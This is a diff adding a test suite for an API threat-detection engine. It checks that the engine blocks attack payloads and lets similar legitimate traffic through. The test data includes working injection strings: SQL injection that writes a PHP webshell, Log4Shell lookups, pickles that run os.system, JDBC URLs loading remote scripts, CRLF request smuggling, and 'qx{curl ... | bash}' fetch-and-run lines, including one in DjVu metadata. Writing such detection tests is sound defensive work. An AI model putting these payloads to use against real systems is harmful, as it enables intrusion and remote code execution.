@@ -1,0 +1,239 @@
+/**
+ * Attacks where APIs receive them and the look-alikes of legitimate API traffic, through the
+ * whole engine with its real detectors and gates: GraphQL documents, credentials and
+ * conditional headers, JSON Patch pointers, byte-truncated line breaks in URL fields, Python
+ * pickles of every protocol, JDBC URLs, Perl/Ruby command literals (also in file metadata),
+ * Log4j case lookups, numeric `$where` breakouts, and base64 documents with their own lines.
+ * Found by probe sets written apart from the engine (bench/probes/, second round).
+ */
+import assert from 'node:assert/strict';
+import { describe, test } from 'node:test';
+import { ThreatEngine, type NamedDetector } from '../src/threats/engine.js';
+import { DETECTORS } from '../src/threats/detectors/index.js';
+import { graphqlStrings, looksGraphql } from '../src/threats/graphql.js';
+import type { Hit, RawRequest, ThreatVerdict } from '../src/threats/types.js';
+import { assertCheap } from './threats-timing.js';
+
+const engine = new ThreatEngine({ detectors: DETECTORS, paranoia: 1 });
+
+function req(over: Partial<RawRequest>): RawRequest {
+  return { method: 'GET', rawPath: '/api', rawQuery: '', headers: { host: 'api.example.com' }, body: undefined, ...over };
+}
+
+function json(body: unknown, path = '/graphql'): RawRequest {
+  return req({ method: 'POST', rawPath: path, headers: { host: 'api.example.com', 'content-type': 'application/json' }, body: Buffer.from(typeof body === 'string' ? body : JSON.stringify(body)) });
+}
+
+function where(v: ThreatVerdict): string[] {
+  return v.findings.map((f) => `${f.detector}@${f.location}:${f.name}`);
+}
+
+function refused(r: RawRequest, what: string): ThreatVerdict {
+  const v = engine.inspect(r);
+  assert.equal(v.block, true, `${what} must be refused`);
+  return v;
+}
+
+function passes(r: RawRequest, what: string): void {
+  const v = engine.inspect(r);
+  assert.equal(v.block, false, `${what} must pass: ${where(v).join(', ')}`);
+}
+
+/** One value as a query parameter `q`. */
+function q(value: string, name = 'q'): RawRequest {
+  return req({ rawQuery: `${name}=${encodeURIComponent(value)}` });
+}
+
+describe('GraphQL documents', () => {
+  test('the lexer gives each string literal with its argument and field', () => {
+    const doc = `# a comment "not a string"
+      query Q($id: ID!, $t: String = "dflt") {
+        user(id: "u\\"1\\u00e9", filter: {name: "Ann", tags: ["a", "b"]}) { ...F posts(first: 10) { title } }
+        a: search(term: """block "quoted" text""") @include(if: true) { id }
+      }
+      fragment F on User { name }`;
+    assert.deepEqual(
+      graphqlStrings(doc, 100)?.map((s) => `${s.field}.${s.arg}=${s.value}`),
+      ['Q.t=dflt', 'user.id=u"1é', 'user.name=Ann', 'user.tags=a', 'user.tags=b', 'search.term=block "quoted" text'],
+    );
+    assert.deepEqual(graphqlStrings('{ a(x: "\\u{1F600}") }', 10)?.[0]?.value, '😀');
+  });
+
+  test('what is not GraphQL is not read as GraphQL', () => {
+    for (const text of ['select * from users', '{"a":1}', '{ a } union select password from users', 'query Q R { a }', 'fragment F of T { a }', '{ a }: 1', '"s" { a }', '{ "s" }', '{ a(b: "x) }', '{ a(b: "x\\q") }', '{ a(b: 1) ', '{ a(b: 1]) }', 'query { a } ; drop table x', '{ a(b: "line\nbreak") }']) {
+      assert.equal(graphqlStrings(text, 100), undefined, text);
+    }
+    assert.equal(looksGraphql('  # c\n mutation M { x }'), true);
+    assert.equal(looksGraphql('queryx { a }'), false);
+    assert.notEqual(graphqlStrings('query Q @live { a } fragment F on T @x(if: true) { b(c: "d") } { e }', 10), undefined, 'several definitions with directives');
+    assert.equal(graphqlStrings('{ a(b: "1", c: "2", d: "3") }', 2), undefined, 'more strings than allowed: read whole');
+  });
+
+  test('string arguments in the document are inputs of their own, named query/field/argument', () => {
+    const v = refused(json({ query: 'query { employees(filter: "*)(|(objectClass=*)(mail=*") { cn mail } }' }), 'LDAP injection in an inline argument');
+    assert.deepEqual(where(v), ['ldapi.filter-breakout@body:/query/employees/filter']);
+    const u = refused(json({ query: 'mutation { importFromUrl(url: "http://localhost:2379/v2/keys/?recursive=true") { id } }' }), 'SSRF in an inline argument');
+    assert.deepEqual(where(u), ['ssrf.internal-host@body:/query/importFromUrl/url']);
+    // a batch (array of operations), and GET with the document in the query string
+    refused(json([{ query: '{ a }' }, { query: '{ user(id: "1 UNION SELECT password FROM users-- -") { id } }' }]), 'SQL injection in a batched operation');
+    const g = refused(req({ rawPath: '/graphql', rawQuery: 'query=' + encodeURIComponent('{ file(path: "../../../../etc/passwd") { content } }') }), 'traversal, GET');
+    assert.ok(where(g).some((w) => w.endsWith('@query:query/file/path')), where(g).join());
+  });
+
+  test('legitimate documents pass: their braces, aliases, fragments and directives are not code', () => {
+    const docs = [
+      'query Orders($status: String!, $first: Int = 20) { orders(status: $status, first: $first) { edges { node { id total } } } }',
+      'mutation { updateProfile(input: {bio: "I\'m O\'Brien; I like <b>bold</b> coffee & tea", locale: "en-IE"}) { id } }',
+      '{ search(term: "select a plan") { ... on Product { name price(currency: EUR) } } me { id } }',
+      'query { repository(owner: "acme", name: "api") { issues(first: 5, filterBy: {states: [OPEN]}) { nodes { title } } } }',
+      'fragment UserParts on User { id name } query { viewer { ...UserParts } }',
+    ];
+    for (const d of docs) passes(json({ query: d, variables: { status: 'shipped' } }), d.slice(0, 40));
+  });
+
+  test('a `query` member that is not a GraphQL document is read whole, as before', () => {
+    refused(json({ query: "1' OR '1'='1" }, '/search'), 'SQL injection in a search `query` field');
+    passes(json({ query: 'how do I reset my password?' }, '/search'), 'prose');
+  });
+
+  test('the document is read in linear time', () => {
+    const many = '{ a(' + Array.from({ length: 2000 }, (_, i) => `x${i}: "${'v'.repeat(20)}"`).join(', ') + ') }';
+    const lex = (s: string) => graphqlStrings(s, 50_000);
+    assertCheap('many strings', lex, many, { ceilingMs: 50 });
+    assertCheap('deep nesting', lex, '{'.repeat(20_000) + '}'.repeat(20_000), { ceilingMs: 50 });
+    assertCheap('many escapes', lex, '{ a(b: "' + '\\u0041'.repeat(30_000) + '") }', { ceilingMs: 50 });
+    assertCheap('escaped block quotes', lex, '{ a(b: """' + '\\"""'.repeat(20_000) + '""") }', { ceilingMs: 50 });
+    // and the engine around it: a 200 KiB document
+    assertCheap('engine, large document', (s) => engine.inspect(json({ query: s })), '{ a(' + Array.from({ length: 8000 }, (_, i) => `x${i}: "v"`).join(', ') + ') }', { ceilingMs: 200 });
+  });
+});
+
+describe('credentials and conditional headers', () => {
+  const h = (headers: Record<string, string>): RawRequest => req({ headers: { host: 'api.example.com', ...headers } });
+
+  test('a Bearer credential that is no token68 is inspected, and never shown', () => {
+    const v = refused(h({ authorization: "Bearer AAAAAA'/**/UNION/**/SELECT/**/'<?php system($_GET[1]);?>'/**/INTO/**/OUTFILE/**/'/var/www/x.php'#" }), 'SQL injection in a Bearer token (FortiWeb CVE-2025-25257)');
+    assert.ok(v.findings.every((f) => f.location === 'header' && f.name === 'authorization' && !f.excerpt.includes('UNION')), JSON.stringify(v.findings));
+    passes(h({ authorization: 'Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl' }), 'a JWT');
+    passes(h({ authorization: 'Bearer ya29.a0AfH6SMB-x_y~z+/==' }), 'an opaque token68 token');
+  });
+
+  test('a Basic user name is inspected; the password only for a lookup', () => {
+    const basic = (pair: string) => h({ authorization: 'Basic ' + Buffer.from(pair).toString('base64') });
+    const v = refused(basic('${jndi:ldap://x.example/a}:pw'), 'Log4Shell in a Basic user name');
+    assert.ok(v.findings.every((f) => f.excerpt === '[REDACTED]' || !f.excerpt.includes('jndi')), JSON.stringify(v.findings));
+    refused(basic("admin' OR '1'='1:pw"), 'SQL injection in a Basic user name');
+    refused(basic('bob:${jndi:ldap://x.example/a}'), 'a lookup in a Basic password');
+    passes(basic("o'brien@example.com:' or 1=1--"), 'a password that looks like SQL');
+    passes(basic('pos-terminal:mkooc5DsD58qmUJ5RqLW0aAW'), 'an ordinary client id and secret');
+  });
+
+  test('conditional and cache headers are read only for a lookup', () => {
+    refused(h({ 'if-modified-since': '${${upper:j}${lower:N}di:${lower:R}mi://198.51.100.29:1099/x}' }), 'Log4Shell in If-Modified-Since');
+    refused(h({ 'cache-control': '${jndi:dns://x.example/a}' }), 'Log4Shell in Cache-Control');
+    passes(h({ 'if-none-match': 'W/"<script>1 OR 1=1</script>"', 'cache-control': 'no-cache, max-age=0', 'if-modified-since': 'Wed, 21 Oct 2015 07:28:00 GMT' }), 'entity tags and directives');
+  });
+
+  test('a header named in ignoreHeaders beyond the defaults stays unread', () => {
+    const e = new ThreatEngine({ detectors: DETECTORS, skipHeaders: new Set(['x-raw-sql']) });
+    assert.equal(e.inspect(h({ 'x-raw-sql': "1' UNION SELECT password FROM users--" })).block, false);
+  });
+});
+
+describe('pointers, line breaks, serialized objects, connection strings', () => {
+  test('a JSON Patch path through __proto__ or constructor.prototype', () => {
+    const patch = (ops: unknown) => json(ops, '/api/v1/documents/55');
+    refused(patch([{ op: 'add', path: '/__proto__/isAdmin', value: true }]), 'JSON Patch through __proto__');
+    refused(patch([{ op: 'add', path: '/constructor/prototype/canDelete', value: true }]), 'JSON Patch through constructor.prototype');
+    passes(patch([{ op: 'replace', path: '/docs/prototype-review/constructor', value: 'The constructor and prototype of a class' }]), 'ordinary pointers');
+    passes(q('Why does __proto__ differ from prototype?'), 'prose');
+  });
+
+  test('line breaks that a byte-truncating writer makes, in URL and path fields', () => {
+    // č (U+010D) and Ċ (U+010A) end in the bytes of CR and LF
+    refused(json({ path: '/api/v1/itemsčĊX-Ignore: xčĊčĊGET /admin/users/delete?id=1 HTTP/1.1čĊHost: 127.0.0.1čĊčĊ' }, '/proxy'), 'a smuggled request after truncated breaks');
+    refused(json({ redirect_uri: 'https://app.example.com/cb\r\nSet-Cookie: sid=evil' }, '/oauth'), 'a header after a break in a redirect URI');
+    refused(json({ url: 'https://app.example.com/x\n\nGET /admin HTTP/1.1' }, '/fetch'), 'a request after a break in a URL field');
+    passes(json({ path: '/文档/上传/手册.pdf', description: 'Line one\nLine two: details\n\nGET /v1/items HTTP/1.1 returns a list' }, '/files'), 'CJK in a path, pasted HTTP in a description');
+  });
+
+  test('Python pickles of every protocol, base64-encoded', () => {
+    // pickle.dumps of an object whose __reduce__ is (os.system, ('id',)), protocols 0, 2, 4, 5
+    for (const b64 of [
+      'Y3Bvc2l4CnN5c3RlbQpwMAooVmlkCnAxCnRwMgpScDMKLg==',
+      'gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==',
+      'gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==',
+      'gAWVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==',
+    ]) {
+      refused(req({ headers: { host: 'api.example.com', cookie: `session_state=${b64}` } }), `pickle ${b64.slice(0, 6)} in a cookie`);
+    }
+    // a pickle of plain data (protocol 4: {'a': [1, 2]}) and other base64
+    passes(req({ headers: { host: 'api.example.com', cookie: 'session_state=gASVEQAAAAAAAAB9lIwBYZRdlChLAUsCZXMu' } }), 'a pickle of data');
+    passes(q('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='), 'a PNG');
+  });
+
+  test('JDBC URLs that make the driver run code or read files', () => {
+    for (const url of [
+      "jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://198.51.100.43/inject.sql'",
+      'jdbc:mysql://203.0.113.5:3306/x?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor',
+      'jdbc:mysql://203.0.113.5:3306/x?allowLoadLocalInfile=true',
+      'jdbc:postgresql://203.0.113.5:5432/app?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://203.0.113.5/x.xml',
+    ]) {
+      refused(json({ datasource: { url } }, '/api/v1/connections'), url.slice(0, 30));
+    }
+    refused(json(['ch.qos.logback.core.db.DriverManagerConnectionSource', { url: "jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://203.0.113.5/x.sql'" }], '/api/v2/settings'), 'a Jackson gadget with an H2 URL');
+    passes(json({ url: 'jdbc:postgresql://db.example.com:5432/app?sslmode=require&ApplicationName=billing' }, '/api/v1/connections'), 'an ordinary JDBC URL');
+  });
+
+  test('Perl and Ruby command literals, also inside file metadata', () => {
+    for (const v of ['qx{id}', '%x(whoami)', '#{%x(id)}', 'qx(curl -s http://198.51.100.9/g.sh | bash)']) refused(q(v), v);
+    for (const v of ['the %x{width} placeholder', 'faqx{abc}', 'print it with %x (hex) or %d']) passes(q(v), v);
+    const upload = (content: Buffer) => {
+      const head = Buffer.from('--B\r\nContent-Disposition: form-data; name="file"; filename="l.jpg"\r\nContent-Type: image/jpeg\r\n\r\n');
+      return req({ method: 'POST', rawPath: '/uploads', headers: { host: 'a', 'content-type': 'multipart/form-data; boundary=B' }, body: Buffer.concat([head, content, Buffer.from('\r\n--B--\r\n')]) });
+    };
+    const djvu = Buffer.concat([Buffer.from('AT&TFORM\x00\x00\x00\xafDJVUINFO\x00\x00\x00\n\x00\x00ANTa\x00\x00\x00W', 'latin1'), Buffer.from('(metadata\n\t(Copyright "\\\n" . qx{curl -s http://198.51.100.90/g.sh | bash} . \\\n" b ") )\n')]);
+    refused(upload(djvu), 'ExifTool DjVu metadata (CVE-2021-22205)');
+    const jpeg = Buffer.alloc(4096);
+    for (let i = 0; i < jpeg.length; i++) jpeg[i] = (i * 131 + 7) & 0xff;
+    jpeg.write('qx{', 1000, 'latin1');
+    passes(upload(jpeg), 'binary bytes `qx{` without a closing bracket in the same text');
+  });
+
+  test('Log4j case lookups as Java maps case', () => {
+    refused(q('${jnd${upper:ı}:ldap://x.example/a}'), 'dotless i upper-cased');
+    refused(q('${${lower:J}ndi:${upper:ſ}ldap://x.example/a}'.replace('${upper:ſ}', '')), 'lower J');
+  });
+
+  test('a number, `;` and a JavaScript statement: a $where breakout', () => {
+    for (const v of ['0;return true', '-1 ; return 1', '1;sleep(5000)']) refused(q(v), v);
+    for (const v of ['1; return to the store', '3;4', '12; for the kids', '2;this is fine']) passes(q(v), v);
+  });
+
+  test('lines inside a base64 document are its own, not an injected header', () => {
+    const mime = 'From: Aoife <aoife@example.ie>\r\nTo: "O\'Sullivan, Siobhán" <s@example.ie>\r\nSubject: recipe\r\nContent-Type: text/plain; charset="UTF-8"\r\n\r\nHi Siobhán,\r\n\r\n250 g butter & 250 g sugar\r\n';
+    passes(json({ raw: Buffer.from(mime).toString('base64url') }, '/gmail/v1/users/me/messages/send'), 'a MIME message in Gmail raw');
+    refused(json({ next: '/home\r\nSet-Cookie: sid=evil' }, '/login'), 'the same header sent as text');
+  });
+
+  test('a User-Agent product token is no host', () => {
+    passes(req({ headers: { host: 'a', 'user-agent': 'kubectl/v1.30.1 (linux/amd64) kubernetes/9a4b2c1' } }), 'kubectl');
+    refused(q('localhost/admin'), 'a bare loopback URL');
+  });
+});
+
+describe('marker check: GraphQL reading keeps to strings', () => {
+  test('detectors see the strings of a document, never its structure', () => {
+    const seen: string[] = [];
+    const spy: NamedDetector = {
+      id: 'spy',
+      category: 'sqli',
+      detect: (text, _lower, ctx): Hit | undefined => {
+        if (ctx.location === 'body') seen.push(`${ctx.name}=${text}`);
+        return undefined;
+      },
+    };
+    new ThreatEngine({ detectors: [spy] }).inspect(json({ query: 'query ($n: Int) { u(id: "7", n: $n) { f(x: ["a"]) } }', variables: { n: 1 } }));
+    assert.deepEqual(seen, ['query=query', 'id=7', 'x=a', 'variables=variables', 'n=n']);
+  });
+});
